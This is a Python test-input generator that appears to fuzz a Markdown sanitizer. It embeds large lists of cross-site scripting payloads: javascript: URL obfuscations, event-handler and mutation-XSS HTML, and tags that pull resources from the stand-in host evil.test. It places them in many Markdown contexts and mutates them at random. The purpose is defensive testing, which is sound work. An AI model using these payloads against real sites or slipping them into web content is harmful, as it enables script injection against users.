# SPDX-License-Identifier: MIT
"""Makes Markdown that tries to run scripts: vectors of HTML and URLs, each put
into many places of Markdown, then changed at random.  The same seed makes the
same documents."""
import json
import pathlib
import random

HERE = pathlib.Path(__file__).resolve().parent
ATTACKS = HERE.parent / "attacks" / "attacks.jsonl"

URLS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
    "javascript&colon;alert(1)", "javascript&#58;alert(1)", "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)", "\x01javascript:alert(1)", "javascript\\:alert(1)",
    "%6Aavascript:alert(1)", "vbscript:x", "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>", "//evil.test/x", "\\\\evil.test\\x",
    "http://evil.test/\"onmouseover=alert(1)", "javas&Tab;cript:alert(1)",
    "java&NewLine;script:alert(1)", "x:alert(1)", "about:blank", "blob:x", "file:///etc",
    "javascript://%0aalert(1)", "&#106&#97&#118ascript:alert(1)", " javascript:alert(1)",
    "https:javascript:alert(1)", "view-source:x", "?q=\"><script>alert(1)</script>",
]
HTML = [
    "<script>alert(1)</script>", "<script src=//evil.test/x></script>",
    "<img src=x onerror=alert(1)>", "<img src=x onerror=\"alert(1)\" />",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    "<iframe src=\"javascript:alert(1)\"></iframe>", "<iframe srcdoc='<script>1</script>'>",
    "<object data=//evil.test/x></object>", "<embed src=//evil.test/x>",
    "<a href=\"javascript:alert(1)\">x</a>", "<a href=java&#10;script:alert(1)>x",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>", "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>", "<video src=x onerror=alert(1)>",
    "<audio src=//evil.test/x autoplay>", "<source srcset=//evil.test/x>",
    "<link rel=stylesheet href=//evil.test/x>", "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test/'>",
    "<style>@import '//evil.test/x';*{background:url(//evil.test/y)}</style>",
    "<p style=\"background:url(//evil.test/x)\">x</p>", "<div style=x:expression(alert(1))>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>", "<title><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>", "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->", "<!--x--!><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<?x <script>alert(1)</script>?>",
    "<table><tr><td><p>x</table><script>alert(1)</script>", "</div></p><script>alert(1)</script>",
    "<a id=x name=y href='#'><a href=x>y</a></a>", "<b><i>x</b></i>", "<p><div>x</p></div>",
    "<li><ul><li>x</ul>", "<table><b>x</b><tr>y</tr></table>", "<h1><h2>x</h1></h2>",
    "<ul><p>x<li>y</ul></p>", "<dl><dt>a<dd>b</dl><dd>c", "<ruby>x<rt>y</ruby>",
    "<span title='\"><script>alert(1)</script>'>x</span>", "<img alt=\"`><script>alert(1)</script>\">",
    "<img src=\"x` `<script>alert(1)</script>\"` `>", "<svg/onload=alert(1)//", "<x onclick=alert(1)>y",
    "<IMG SRC=x ONERROR=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=x\nonerror=alert(1)>",
    "<a href=x onclick\n=\nalert(1)>x</a>", "<a href='x' \"onclick=alert(1)\">x</a>",
    "<select><option><script>alert(1)</script></select>", "<frameset onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>", "<isindex action=javascript:alert(1)>",
    "<button formaction=javascript:alert(1)>x", "<keygen autofocus onfocus=alert(1)>",
    "<portal src=//evil.test/>", "<slot onslotchange=alert(1)>", "<image src=x onerror=alert(1)>",
    "<caption><td><col><tr>", "<details><summary>x<p>y</details>", "<pre>\n\nx</pre>",
    "<code><pre>x</code></pre>", "<p>a<table><tr><td>b</table>c</p>", "<td>x</td>",
    "<a href=1><div><a href=2>x</div></a>", "<a href=1><table><tr><td><a href=2>x</table>",
    "<br/>x</br>", "</p>", "<hr>x</hr>", "<center><font>x</center>", "<noembed><img src=x onerror=alert(1)>",
]
PLACES = [
    "%s", "%s\n", "a %s b", "[x](%s)", "[x](<%s>)", "![x](%s)", "[%s](x)", "![%s](x)",
    "[x](y \"%s\")", "[x](y '%s')", "<%s>", "[x]: %s\n\n[x]", "[x]: y '%s'\n\n[x] ![x]",
    "# %s\n", "# x {#%s}\n", "# x {.%s}\n", "```%s\nx\n```", "```c {title=\"%s\"}\nx\n```",
    "```c {hl_lines=%s}\nx\n```", "    %s", "`%s`", "> %s", "- %s", "- [ ] %s",
    "| %s | b |\n|---|---|\n| c | %s |", "x[^1]\n\n[^1]: %s", "x[^%s]\n\n[^%s]: y",
    "> [!NOTE]\n> %s", "> [!%s]\n> x", "::: note %s\nx\n:::", "::: %s\nx\n:::",
    "::: details %s\n%s\n:::", "*[x]: %s\n\nx x", "*[%s]: y\n\n%s", "x\n: %s", "%s\n: y",
    "$%s$", "$$\n%s\n$$", ":%s:", "~~%s~~ ==%s== ^%s^ ~%s~", "**%s** *%s*", "<div>\n%s\n</div>",
    "<div title=\"%s\">x</div>", "<a href=\"%s\">x</a>", "<img src=\"%s\">", "<p>%s", "<!-- %s -->",
    "<table><tr><td>\n\n%s\n\n</td></tr></table>", "<b>*%s*</b>", "https://a.b/%s", "www.a.b/%s",
    "a@b.c%s", "%s@b.cd", "\\%s", "&lt;%s", "%s\n===", "1. %s\n\n   %s", "<details>\n\n%s\n\n</details>",
    "[![%s](x)](%s)", "[x][%s]\n\n[%s]: javascript:alert(1)", "<a href='[x](%s)'>",
    "x <b title='\n%s'>", "[a](b)%s[c](d)", "<img srcset=\"%s 2x, y\">", "<q cite=\"%s\">x</q>",
    "<span id=\"%s\" class='%s'>x</span>", "<a name=\"%s\" target=_blank>x</a>",
]
NOISE = ["\n", "\n\n", " ", "\t", "\0", "\r", "\"", "'", "`", "<", ">", "&", "\\", "*", "_",
         "[", "]", "(", ")", "|", "~", "=", "^", ":", "$", "/", "-", "#", "!", "\x0c", "\x0b",
         "\u2028", "\u00a0", "\ufeff", "\u202e", "\u017f", "\u0130", "\U0001f600", "&#0;", "&amp;",
         "</a>", "</p>", "<b>", "</b>", "</table>", "<td>", "-->", "<!--", "]]>", "```\n", "::: x\n"]


def catalogue():
    """The Markdown of the hostile inputs, as far as it is plain text."""
    texts = []
    for line in ATTACKS.read_text().splitlines():
        case = json.loads(line)
        text = (case.get("context") or {}).get("$markdown")
        if case["class"] == "markdown" and isinstance(text, str):
            texts.append(text)
    return texts


def change(dice, text):
    for _ in range(dice.randrange(4)):
        at = dice.randrange(len(text) + 1)
        kind = dice.randrange(5)
        if kind < 2:
            text = text[:at] + dice.choice(NOISE) + text[at:]
        elif kind == 2:
            text = text[:at] + text[at + dice.randrange(1, 4):]
        elif kind == 3:
            end = at + dice.randrange(1, 12)
            text = text[:at] + text[at:end].swapcase() + text[end:]
        else:
            end = at + dice.randrange(1, 12)
            text = text[:end] + text[at:end] + text[end:]
    return text


def document(dice, known):
    parts = []
    for _ in range(dice.randrange(1, 5)):
        text = dice.choice(URLS + HTML + HTML)
        if dice.random() < 0.15:
            text = dice.choice(known)
        for _ in range(dice.randrange(3)):
            place = dice.choice(PLACES)
            text = place.replace("%s", text)
        parts.append(change(dice, text))
    return dice.choice(["\n\n", "\n\n", "\n", " "]).join(parts)


def documents(count, seed):
    dice = random.Random(seed)
    known = catalogue()
    made = list(known)
    made += [place.replace("%s", text) for place in PLACES for text in URLS + HTML]
    dice.shuffle(made)
    made = made[:count // 2]
    while len(made) < count:
        made.append(document(dice, known))
    return made
